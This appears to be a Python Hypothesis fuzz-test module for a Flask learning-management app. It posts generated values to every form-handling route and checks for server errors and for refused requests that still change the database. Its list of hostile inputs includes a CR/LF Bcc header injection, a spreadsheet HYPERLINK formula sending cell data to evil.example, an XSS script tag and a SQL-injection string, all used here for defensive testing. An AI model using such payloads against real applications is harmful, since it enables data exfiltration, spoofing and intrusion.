"""Fuzzed forms: every unsafe route, as the role that may use it, with generated values.

The routes come from `app.url_map` (through test_access_matrix's ROUTES), so a new route
is fuzzed without anyone adding it here. Which fields a route takes is read from the real
pages: every page the persona can GET is parsed and each <form> is filed under its action,
with its inputs, selects (and their options), textareas and file inputs; a route no page
posts to still gets the fields its line in the access table names. Hypothesis then posts
mixtures of valid options, world ids and hostile text (NUL, zero-width and bidi characters,
CR/LF, formulas, huge numbers, dates in year 1 and 9999, 10,000 characters...), with fields
dropped at random, and asserts:

- no answer is a 5xx;
- when the answer is a refusal (a 4xx, a page re-rendered with field errors, or a flashed
  error), not one row of any table changed.

The database is the access world (tests/web/access_world.py), restored whenever an example
changed it. Runs on SQLite and PostgreSQL like the rest of the suite.
"""

from __future__ import annotations

import io
import os
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
import test_access_matrix
from access_world import EVIDENCE_PDF, World, client_as, differences, dump, load
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_access_matrix import (
    EXPECTED,
    GET_ENDPOINTS,
    ROUTES,
    UNSAFE,
    UNSAFE_ENDPOINTS,
    _data,
    _url,
)

# Examples per route: about 35 routes x this, a few hundred requests per backend.
EXAMPLES = int(os.environ.get("LMS_FUZZ_EXAMPLES", "8"))

HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u200b\u200c\u200d",
    "\u202eevil",
    "\u0301",
    "line\r\nBcc: x@evil.example",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/"&A2,"x")@evil.example',
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%00",
    "-1",
    "0",
    "1e309",
    "NaN",
    "9223372036854775808",
    "9" * 40,
    "9" * 400,  # past a float: wtforms' range check overflowed
    "2147483648",  # PostgreSQL's INTEGER plus one
    "\uff15",  # fullwidth 5
    "\u0663",  # Arabic-Indic 3
    "1e999999999",
    "sNaN",
    "0001-01-01",
    "9999-12-31",
    "2024-02-30",
    "x" * 10_001,
    "💥",
]


class _FormParser(HTMLParser):
    """Collect each <form method=post>: its action and its fields (name -> kind, options)."""

    def __init__(self) -> None:
        """Start with no forms."""
        super().__init__()
        self.forms: list[tuple[str, dict[str, dict[str, Any]]]] = []
        self._fields: dict[str, dict[str, Any]] | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note forms, fields and options."""
        a = {k: v or "" for k, v in attrs}
        if tag == "form" and a.get("method", "get").lower() == "post":
            self._fields = {}
            self.forms.append((a.get("action", ""), self._fields))
            return
        if self._fields is None or not a.get("name") and tag != "option":
            return
        name = a.get("name", "")
        if tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("submit", "button", "reset", "image"):
                return
            field = self._fields.setdefault(name, {"kind": kind, "options": []})
            if kind in ("checkbox", "radio", "hidden") and a.get("value"):
                field["options"].append(a["value"])
        elif tag == "textarea":
            self._fields.setdefault(name, {"kind": "textarea", "options": []})
        elif tag == "select":
            self._select = name
            self._fields.setdefault(name, {"kind": "select", "options": []})
        elif tag == "option" and self._select is not None:
            self._fields[self._select]["options"].append(a.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        """Close forms and selects."""
        if tag == "form":
            self._fields = None
        elif tag == "select":
            self._select = None


# The access matrix's fixtures: its settings (shared evidence folder) and its world.
app_config = test_access_matrix.app_config
world = test_access_matrix.world

_FIELDS: dict[str, dict[str, dict[str, dict[str, Any]]]] = {}


def _persona_for(endpoint: str) -> str:
    """The role that may use the route: a guest for public forms, else its first audience."""
    allowed = EXPECTED[endpoint].post or frozenset()
    for persona in ("guest", "clinician", "admin", "instructor", "reviewer", "other", "consultant"):
        if persona in allowed:
            return persona
    return "admin"


def _forms_seen_by(app: Flask, the_world: World, persona: str) -> dict[str, dict[str, Any]]:
    """action path -> fields, from every page the persona can GET (once per process)."""
    if persona in _FIELDS:
        return _FIELDS[persona]
    found: dict[str, dict[str, Any]] = {}
    client = client_as(app, the_world, persona)
    for endpoint in GET_ENDPOINTS:
        if endpoint in ("lms_assets.static", "healthz"):
            continue
        for rule_text, methods in ROUTES[endpoint]:
            if "GET" not in methods:
                continue
            url = _url(app, the_world, endpoint, rule_text)
            response = client.get(url)
            if response.status_code != 200 or "html" not in response.content_type:
                response.close()
                continue
            parser = _FormParser()
            parser.feed(response.get_data(as_text=True))
            response.close()
            for action, fields in parser.forms:
                path = urlsplit(action).path or urlsplit(url).path
                merged = found.setdefault(path, {})
                for name, field in fields.items():
                    known = merged.setdefault(name, {"kind": field["kind"], "options": []})
                    known["options"] = sorted(set(known["options"]) | set(field["options"]))
    _FIELDS[persona] = found
    return found


# Forms no page shows the chosen persona in the world (the clinician has applied already),
# read from their WTForms class instead.
FORM_CLASSES = {"retreats.apply": "lms.retreats.forms:ApplicationForm"}


def _fields_of_class(app: Flask, dotted: str) -> dict[str, dict[str, Any]]:
    """Field names, kinds and choices of a form class, sub-forms flattened."""
    from importlib import import_module

    module, name = dotted.split(":")
    with app.test_request_context():
        form = getattr(import_module(module), name)(meta={"csrf": False})
        flat = [sub for field in form for sub in (field if field.type == "FormField" else [field])]
        return {
            field.name: {
                "kind": "textarea" if field.type == "TextAreaField" else "text",
                "options": [str(c.value) for c in getattr(field, "choices", None) or []],
            }
            for field in flat
        }


def _fields_for(app: Flask, the_world: World, endpoint: str, url: str, persona: str) -> dict:
    """The fields the route's forms carry, plus those its access-table line posts."""
    seen = _forms_seen_by(app, the_world, persona).get(urlsplit(url).path, {})
    if not seen and endpoint in FORM_CLASSES:
        seen = _fields_of_class(app, FORM_CLASSES[endpoint])
    fields = {name: dict(field) for name, field in seen.items()}
    for name, value in _data(endpoint, the_world).items():
        fields.setdefault(name, {"kind": "text", "options": []})
        fields[name]["options"] = sorted(set(fields[name]["options"]) | {value})
    fields.pop("csrf_token", None)
    return fields


def _world_values(the_world: World) -> list[str]:
    """Ids and codes of the world's records: values that reach real rows."""
    values = the_world.values.values()
    return sorted({str(v) for v in values if isinstance(v, int | str)})[:40]


_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60)


def _value(field: dict[str, Any], world_values: list[str]) -> st.SearchStrategy:
    """Values for one field: its own options, world ids, hostile text, random text."""
    choices = [st.sampled_from(HOSTILE), _text, st.sampled_from(world_values)]
    if field["options"]:
        choices = [st.sampled_from(field["options"])] * 3 + choices
    if field["kind"] == "file":
        return st.sampled_from([EVIDENCE_PDF, b"", b"\x00" * 64, b"GIF89a" + b"x" * 40]).map(
            lambda body: (io.BytesIO(body), "upload.pdf")
        )
    if field["kind"] == "checkbox":
        return st.lists(st.one_of(*choices), max_size=3)
    return st.one_of(*choices)


def _form_data(fields: dict[str, dict[str, Any]], world_values: list[str]) -> st.SearchStrategy:
    """A whole form: each field with a generated value, or left out."""
    return st.fixed_dictionaries(
        {},
        optional={name: _value(field, world_values) for name, field in sorted(fields.items())},
    )


def _refused(client: Any, response: Any) -> bool:
    """Whether the answer refuses the request: a 4xx, field errors, or a flashed error."""
    if 400 <= response.status_code < 500:
        return True
    body = response.get_data(as_text=True) if "html" in response.content_type else ""
    if 'aria-invalid="true"' in body or "flash flash-error" in body:
        return True
    with client.session_transaction() as flask_session:
        flashes = flask_session.get("_flashes", [])
    return any(category == "error" for category, _message in flashes)


FUZZED = [
    (endpoint, rule_text, method)
    for endpoint in UNSAFE_ENDPOINTS
    for rule_text, methods in ROUTES[endpoint]
    for method in sorted(methods & set(UNSAFE))
]


@pytest.fixture
def target(app, world, request) -> tuple[str, str, str, dict]:
    """(persona, url, method, fields) of the route under test, read before any example runs."""
    endpoint, rule_text, method = request.param
    persona = _persona_for(endpoint)
    url = _url(app, world, endpoint, rule_text)
    fields = _fields_for(app, world, endpoint, url, persona)
    load(app.extensions["lms"].db.engine, world.rows)  # the pages read may have written
    return persona, url, method, fields


@pytest.mark.parametrize("target", FUZZED, ids=lambda v: f"{v[2]} {v[1]}", indirect=True)
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_fuzzed_form_never_errors_and_a_refusal_changes_nothing(app, world, target, data):
    """Generated values in every field of the route's forms: no 5xx; a refusal writes nothing."""
    persona, url, method, fields = target
    form = data.draw(_form_data(fields, _world_values(world)), label="form")
    engine = app.extensions["lms"].db.engine
    if differences(world.rows, dump(engine)):
        load(engine, world.rows)
    client = client_as(app, world, persona)
    response = client.open(url, method=method, data=form)
    status = response.status_code
    assert status < 500, f"{method} {url} as {persona} answered {status} for {form!r}"
    if _refused(client, response):
        changed = differences(world.rows, dump(engine))
        assert not changed, f"{method} {url} as {persona} refused {form!r} but changed {changed}"
    response.close()
